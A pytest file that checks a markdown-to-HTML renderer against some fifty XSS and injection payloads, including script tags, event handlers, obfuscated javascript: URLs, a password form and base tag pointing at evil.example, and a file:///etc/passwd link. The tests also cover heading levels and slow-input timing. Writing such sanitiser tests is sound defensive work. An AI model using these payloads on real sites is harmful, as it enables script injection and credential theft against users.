"""What people write becomes HTML that cannot act, load or leave the page's order of headings."""

import re
import time

import pytest

from core.markdown import to_html

# Each tries to run a script, to load something, or to leave the element it is shown in.
ATTEMPTS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<form action=https://evil.example><input name=password></form>",
    "<style>@import '//evil.example'</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<object data=//evil.example></object>",
    "<!-- --><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](java&#09;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](tel:0190)",
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](https://ok.example "onmouseover=alert(1)")',
    '[x](https://ok.example/"onmouseover="alert(1))',
    "[x](https://ok.example/'><script>alert(1)</script>)",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](x)',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "```\" onclick=\"alert(1)\nx\n```",
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | d |",
    "https://ok.example/<script>alert(1)</script>",
    'https://ok.example/"onmouseover="alert(1)',
    "# <img src=x onerror=alert(1)>",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<a\x0chref=javascript:alert(1)>x</a>",
    "<<script>script>alert(1)<</script>/script>",
    "{{ 7|add:7 }} {% debug %}",
]  # fmt: skip
_TAG = re.compile(r"<(/?)([a-zA-Z][^\s/>]*)([^>]*)>")
_ATTRIBUTE = re.compile(r'([a-zA-Z-]+)="([^"]*)"')
HARMLESS = {f"h{level}" for level in range(2, 7)} | {
    "a", "blockquote", "br", "code", "del", "em", "hr", "li", "ol", "p", "pre", "s", "strong", "table", "tbody",
    "td", "th", "thead", "tr", "ul",
}  # fmt: skip


def dangers(html: str) -> list[str]:
    """Tags, attributes and addresses in `html` that we never allow."""
    found = []
    for _, name, rest in _TAG.findall(html):
        if name not in HARMLESS:
            found.append(name)
        for attribute, value in _ATTRIBUTE.findall(rest):
            if attribute not in {"href", "rel", "start"}:
                found.append(attribute)
            # A scheme has no percent sign: "java%09script:" is a path to every browser.
            scheme = re.match(r"[\s\x00-\x20]*([a-zA-Z][a-zA-Z0-9+.\s-]*):", value)
            if attribute == "href" and scheme and scheme[1] not in {"http", "https", "mailto"}:
                found.append(value)
        if _ATTRIBUTE.sub("", rest).strip(" /"):
            found.append(rest)
    return found


def test_the_check_of_this_file_finds_what_is_planted():
    assert dangers('<p onclick="x">a</p>') == ["onclick"]
    assert dangers("<script>x</script>") == ["script", "script"]
    assert dangers('<a href="javascript:x">a</a>') == ["javascript:x"]
    assert dangers("<p onclick=x>a</p>") == [" onclick=x"]


@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_no_text_becomes_something_that_acts(attempt):
    assert dangers(to_html(attempt)) == []


def test_ordinary_text_keeps_its_form():
    assert to_html("Ein *Wort*, ein **Wort**.\n\n- eins\n- zwei") == (
        "<p>Ein <em>Wort</em>, ein <strong>Wort</strong>.</p>\n<ul>\n<li>eins</li>\n<li>zwei</li>\n</ul>\n"
    )


def test_links_to_pages_and_mailboxes_work():
    assert to_html("[a](https://ulm.de/x) [b](/pages/help/) info@ulm.de") == (
        '<p><a href="https://ulm.de/x" rel="noopener">a</a> <a href="/pages/help/" rel="noopener">b</a> '
        '<a href="mailto:info@ulm.de" rel="noopener">info@ulm.de</a></p>\n'
    )


def test_a_picture_becomes_a_link_to_it():
    assert to_html("![Rathaus](https://ulm.example/a.png)") == (
        '<p>!<a href="https://ulm.example/a.png" rel="noopener">Rathaus</a></p>\n'
    )


@pytest.mark.parametrize(
    "text, levels",
    [
        ("# a\n## b", ["h2", "h3"]),
        ("## a\n### b\n## c", ["h2", "h3", "h2"]),
        ("### a", ["h2"]),
        ("# a\n###### b", ["h2", "h6"]),
        ("no heading", []),
    ],
)
def test_the_highest_heading_becomes_h2(text, levels):
    assert re.findall(r"<(h\d)>", to_html(text)) == levels


@pytest.mark.parametrize("piece", ["[", "*a ", "`", "> ", "<", "[a](", "- ", "|a", "&#", "\\", "http://"])
def test_a_text_made_to_be_slow_is_not(piece):
    started = time.perf_counter()

    to_html(piece * 5_000)

    assert time.perf_counter() - started < 5
